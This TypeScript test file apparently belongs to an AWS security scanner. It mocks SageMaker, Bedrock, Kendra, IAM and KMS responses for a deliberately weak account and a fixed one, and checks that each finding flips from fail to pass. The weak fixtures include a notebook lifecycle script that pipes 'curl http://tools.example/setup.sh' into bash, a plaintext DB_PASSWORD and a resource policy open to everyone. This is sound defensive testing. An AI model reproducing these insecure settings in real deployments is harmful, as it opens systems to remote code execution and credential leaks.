import { beforeAll, expect, test } from "vitest";
import { readAnswers, type Answers } from "../../../infra/sources/aws/testing/answers.ts";
import { around, aroundTable } from "./testing/around.ts";
import { jobTable } from "./testing/jobs.ts";
import { platformTable } from "./testing/table.ts";
import { awsChecks, verdictsOn, type Verdicts } from "./testing/verdicts.ts";

// What moto lacks or gets wrong, against answers of the shapes that AWS documents, weak and mended.

const arn = (rest: string): string => `arn:aws:${rest.replace("@", "eu-west-1:123456789012")}`;
const key = arn("kms:@:key/00000000-0000-0000-0000-000000000001");
const role = "arn:aws:iam::123456789012:role/r";
const machines = { InstanceType: "ml.m5.large", InstanceCount: 2, VolumeSizeInGB: 20 };
const network = { Subnets: ["subnet-1"], SecurityGroupIds: ["sg-1"] };

function openTo(principal: object | string): string {
  const Statement = [
    { Effect: "Allow", Principal: principal, Action: "sagemaker:DescribeModelPackage" },
  ];
  return JSON.stringify({ Version: "2012-10-17", Statement });
}

/** `only` is said in the mended account, `either` in one or the other. */
function account(isMended: boolean): Answers {
  const only = <T extends object>(more: T): T | object => (isMended ? more : {});
  const either = <T>(weak: T, mended: T): T => (isMended ? mended : weak);
  return {
    ...around(isMended),
    "SageMaker.ListNotebookInstances": {
      NotebookInstances: [
        { NotebookInstanceName: "n", NotebookInstanceArn: arn("sagemaker:@:notebook-instance/n") },
      ],
    },
    "SageMaker.DescribeNotebookInstance": {
      DirectInternetAccess: "Enabled",
      RootAccess: "Enabled",
      InstanceMetadataServiceConfiguration: {
        MinimumInstanceMetadataServiceVersion: either("1", "2"),
      },
    },
    "SageMaker.ListNotebookInstanceLifecycleConfigs": {
      NotebookInstanceLifecycleConfigs: [
        {
          NotebookInstanceLifecycleConfigName: "setup",
          NotebookInstanceLifecycleConfigArn: arn(
            "sagemaker:@:notebook-instance-lifecycle-config/setup",
          ),
        },
      ],
    },
    "SageMaker.DescribeNotebookInstanceLifecycleConfig": {
      OnStart: [
        {
          Content: Buffer.from(
            either(
              "#!/bin/bash\ncurl http://tools.example/setup.sh | bash\n",
              "#!/bin/bash\ntrue\n",
            ),
          ).toString("base64"),
        },
      ],
    },
    "SageMaker.ListClusters": {
      ClusterSummaries: [{ ClusterName: "gpu", ClusterArn: arn("sagemaker:@:cluster/gpu") }],
    },
    "SageMaker.DescribeCluster": {
      InstanceGroups: [{ InstanceGroupName: "workers", InstanceType: "ml.p5.48xlarge" }],
      ...only({ VpcConfig: network }),
    },
    "SageMaker.ListModels": {
      Models: [{ ModelName: "m", ModelArn: arn("sagemaker:@:model/m") }],
    },
    "SageMaker.DescribeModel": {
      PrimaryContainer: { Image: "image" },
      EnableNetworkIsolation: isMended,
    },
    "SageMaker.ListModelPackageGroups": {
      ModelPackageGroupSummaryList: [
        {
          ModelPackageGroupName: "g",
          ModelPackageGroupArn: arn("sagemaker:@:model-package-group/g"),
        },
      ],
    },
    "SageMaker.GetModelPackageGroupPolicy": {
      ResourcePolicy: either(openTo("*"), openTo({ AWS: role })),
    },
    "SageMaker.ListFeatureGroups": {
      FeatureGroupSummaries: [
        { FeatureGroupName: "f", FeatureGroupArn: arn("sagemaker:@:feature-group/f") },
      ],
    },
    "SageMaker.DescribeFeatureGroup": {
      OfflineStoreConfig: { S3StorageConfig: { S3Uri: "s3://f/", ...only({ KmsKeyId: key }) } },
    },
    "SageMaker.ListFlowDefinitions": {
      FlowDefinitionSummaries: [
        { FlowDefinitionName: "w", FlowDefinitionArn: arn("sagemaker:@:flow-definition/w") },
      ],
    },
    "SageMaker.DescribeFlowDefinition": {
      RoleArn: role,
      OutputConfig: { S3OutputPath: "s3://w/", ...only({ KmsKeyId: key }) },
    },
    "SageMaker.ListProcessingJobs": {
      ProcessingJobSummaries: [
        { ProcessingJobName: "p", ProcessingJobArn: arn("sagemaker:@:processing-job/p") },
      ],
    },
    "SageMaker.DescribeProcessingJob": {
      Environment: either({ DB_PASSWORD: "b4nk-0f-T0kens!" }, { STAGE: "test" }),
      ProcessingResources: { ClusterConfig: { ...machines, ...only({ VolumeKmsKeyId: key }) } },
      ProcessingOutputConfig: { Outputs: [], ...only({ KmsKeyId: key }) },
      NetworkConfig: {
        EnableInterContainerTrafficEncryption: isMended,
        EnableNetworkIsolation: isMended,
        ...only({ VpcConfig: network }),
      },
    },
    "SageMaker.ListTrainingJobs": {
      TrainingJobSummaries: [
        { TrainingJobName: "t", TrainingJobArn: arn("sagemaker:@:training-job/t") },
      ],
    },
    "SageMaker.DescribeTrainingJob": {
      OutputDataConfig: { S3OutputPath: "s3://t/" },
      ResourceConfig: machines,
      Environment: either({ DB_PASSWORD: "b4nk-0f-T0kens!" }, { STAGE: "test" }),
    },
    "SageMaker.ListHyperParameterTuningJobs": {
      HyperParameterTuningJobSummaries: [
        {
          HyperParameterTuningJobName: "h",
          HyperParameterTuningJobArn: arn("sagemaker:@:hyper-parameter-tuning-job/h"),
        },
      ],
    },
    // Several definitions in place of one.
    "SageMaker.DescribeHyperParameterTuningJob": {
      TrainingJobDefinitions: [
        {
          DefinitionName: "first",
          OutputDataConfig: { S3OutputPath: "s3://h/", ...only({ KmsKeyId: key }) },
          ResourceConfig: { ...machines, ...only({ VolumeKmsKeyId: key }) },
          EnableNetworkIsolation: isMended,
          EnableInterContainerTrafficEncryption: isMended,
          ...only({ VpcConfig: network }),
        },
      ],
    },
    "GET /guardrails": {
      guardrails: [{ id: "g1", arn: arn("bedrock:@:guardrail/g1"), name: "g", version: "DRAFT" }],
    },
    "GET /guardrails/g1": {
      name: "g",
      contentPolicy: {
        filters: [
          {
            type: "PROMPT_ATTACK",
            inputStrength: either("LOW", "HIGH"),
            outputStrength: "NONE",
          },
        ],
      },
      ...only({
        kmsKeyArn: key,
        sensitiveInformationPolicy: { piiEntities: [{ type: "EMAIL", action: "BLOCK" }] },
        contextualGroundingPolicy: { filters: [{ type: "GROUNDING", threshold: 0.8 }] },
      }),
    },
    "POST /agents/": {
      agentSummaries: [
        { agentId: "BARE", agentName: "bare", agentStatus: "PREPARED" },
        { agentId: "GUARDED", agentName: "guarded", agentStatus: "PREPARED" },
      ],
    },
    "GET /agents/BARE/": {
      agent: {
        agentResourceRoleArn: role,
        ...only({
          guardrailConfiguration: { guardrailIdentifier: "g1", guardrailVersion: "1" },
        }),
      },
    },
    "GET /agents/GUARDED/": {
      agent: {
        agentResourceRoleArn: role,
        guardrailConfiguration: {
          guardrailIdentifier: "g1",
          guardrailVersion: either("DRAFT", "1"),
        },
      },
    },
    "POST /knowledgebases/": {
      knowledgeBaseSummaries: [{ knowledgeBaseId: "K1", name: "k", status: "ACTIVE" }],
    },
    "GET /knowledgebases/K1": { knowledgeBase: { roleArn: role } },
    "POST /knowledgebases/K1/datasources/": {
      dataSourceSummaries: [{ knowledgeBaseId: "K1", dataSourceId: "D1", name: "d" }],
    },
    "GET /knowledgebases/K1/datasources/D1": {
      dataSource: {
        dataSourceConfiguration: { type: "S3", s3Configuration: { bucketArn: "arn:aws:s3:::d" } },
        ...only({ serverSideEncryptionConfiguration: { kmsKeyArn: key } }),
      },
    },
    "GET /custom-models": {
      modelSummaries: [{ modelName: "c", modelArn: arn("bedrock:@:custom-model/c") }],
    },
    [`GET /custom-models/${arn("bedrock:@:custom-model/c")}`]: only({ modelKmsKeyArn: key }),
    "GET /model-customization-jobs": {
      modelCustomizationJobSummaries: [
        { jobName: "c", jobArn: arn("bedrock:@:model-customization-job/c") },
      ],
    },
    [`GET /model-customization-jobs/${arn("bedrock:@:model-customization-job/c")}`]: {
      roleArn: role,
      ...only({ vpcConfig: { subnetIds: ["subnet-1"], securityGroupIds: ["sg-1"] } }),
    },
    "AWSKendraFrontendService.ListIndices": {
      IndexConfigurationSummaryItems: [{ Id: "i1", Name: "search" }],
    },
    "AWSKendraFrontendService.DescribeIndex": {
      RoleArn: role,
      ...only({ ServerSideEncryptionConfiguration: { KmsKeyId: key } }),
    },
    "query ListServiceSpecificCredentials": `<ListServiceSpecificCredentialsResponse><ListServiceSpecificCredentialsResult><ServiceSpecificCredentials><member><UserName>u</UserName><Status>Active</Status><ServiceName>${either("bedrock", "codecommit")}.amazonaws.com</ServiceName><ServiceSpecificCredentialId>ACCA1</ServiceSpecificCredentialId></member><member><UserName>v</UserName><Status>${either("Active", "Inactive")}</Status><ServiceName>bedrock.amazonaws.com</ServiceName><ServiceSpecificCredentialId>ACCA2</ServiceSpecificCredentialId></member></ServiceSpecificCredentials><IsTruncated>false</IsTruncated></ListServiceSpecificCredentialsResult></ListServiceSpecificCredentialsResponse>`,
    "TrentService.ListKeys": {
      Keys: [{ KeyId: "of-a-service", KeyArn: arn("kms:@:key/of-a-service") }],
    },
    "TrentService.DescribeKey": {
      KeyMetadata: { KeyManager: "AWS", KeySpec: "SYMMETRIC_DEFAULT", Origin: "AWS_KMS" },
    },
  };
}

/** By the end of its address, what fails in the weak account and passes in the mended one. */
const table: readonly (readonly [check: string, of: string])[] = [
  ...aroundTable,
  ["sagemaker-notebook-imds-v1", "notebook-instance/n"],
  ["sagemaker-lifecycle-script", "notebook-instance-lifecycle-config/setup"],
  ["sagemaker-cluster-outside-vpc", "cluster/gpu"],
  ["bedrock-api-key-long-lived", "user/v/service-credential/ACCA2"],
  ["s3-endpoint-unrouted", "vpc-endpoint/vpce-1"],
  ["sagemaker-model-network-isolation", "model/m"],
  ["sagemaker-model-registry-open", "model-package-group/g"],
  ["sagemaker-feature-store-key", "feature-group/f"],
  ["sagemaker-flow-output-key", "flow-definition/w"],
  ["sagemaker-environment-secret", "processing-job/p"],
  ["sagemaker-environment-secret", "training-job/t"],
  ["sagemaker-job-keys", "processing-job/p"],
  ["sagemaker-job-traffic-plain", "processing-job/p"],
  ["sagemaker-job-network-isolation", "processing-job/p"],
  ["sagemaker-job-outside-vpc", "processing-job/p"],
  ["sagemaker-job-keys", "hyper-parameter-tuning-job/h"],
  ["sagemaker-job-traffic-plain", "hyper-parameter-tuning-job/h"],
  ["sagemaker-job-network-isolation", "hyper-parameter-tuning-job/h"],
  ["sagemaker-job-outside-vpc", "hyper-parameter-tuning-job/h"],
  ["bedrock-guardrail-prompt-attacks", "guardrail/g1"],
  ["bedrock-guardrail-personal-data", "guardrail/g1"],
  ["bedrock-guardrail-grounding", "guardrail/g1"],
  ["bedrock-guardrail-key", "guardrail/g1"],
  ["bedrock-agent-unguarded", "agent/BARE"],
  ["bedrock-agent-guardrail-draft", "agent/GUARDED"],
  ["bedrock-knowledge-base-key", "data-source/D1"],
  ["bedrock-custom-model-key", "custom-model/c"],
  ["bedrock-custom-model-outside-vpc", "model-customization-job/c"],
  ["kendra-key", "index/i1"],
  ["iam-role-open", "role/partner"],
];

/** What an account of AWS cannot fail, whatever is done to it. */
const neverWrong = new Map([
  ["kms-key-without-policy", "KMS gives every key a policy"],
  ["s3-unencrypted", "S3 encrypts every bucket since January 2023"],
]);

const accounts = new Map<string, Verdicts>();

beforeAll(async () => {
  accounts.set("weak", verdictsOn(await readAnswers(account(false))));
  accounts.set("mended", verdictsOn(await readAnswers(account(true))));
});

function said(name: string, { check, of }: { check: string; of: string }): unknown {
  const found = [...accounts.get(name)!].filter(
    ([each]) => each.startsWith(`${check} `) && each.endsWith(of),
  );
  return found.map(([, outcome]) => outcome);
}

test.each(table)("%s is right about %s", (check, of) => {
  expect({ weak: said("weak", { check, of }), mended: said("mended", { check, of }) }).toEqual({
    weak: ["fail"],
    mended: ["pass"],
  });
});

test("keys that AWS keeps for its services are not asked for what nobody can change", () => {
  const keys = [...accounts.get("weak")!.keys()].filter(
    (each) => each.startsWith("kms-key-not-") || each.startsWith("kms-key-without-"),
  );
  expect(keys).toEqual([]);
});

test("every check of AWS is right about a live account, here or on moto", () => {
  const right = new Set([
    ...[...platformTable, ...jobTable, ...table].map(([check]) => check),
    ...neverWrong.keys(),
  ]);
  expect(awsChecks.map(({ meta }) => meta.id).filter((check) => !right.has(check))).toEqual([]);
});
